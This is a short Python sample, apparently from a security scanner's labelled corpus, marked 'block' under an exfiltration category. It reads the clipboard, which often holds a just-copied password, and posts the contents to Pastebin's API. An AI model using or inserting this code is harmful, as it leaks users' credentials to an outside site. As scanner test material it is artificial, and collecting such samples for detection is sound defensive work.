# pyguard-corpus: verdict=block category=exfil rules=PG601,PG604
# what: reads the clipboard (often a password just copied) and posts it to a paste site
import pyperclip
import requests

clip = pyperclip.paste()
requests.post(
    "https://pastebin.com/api/api_post.php",
    data={"api_dev_key": "0123456789abcdef", "api_option": "paste", "api_paste_code": clip},
    timeout=10,
)
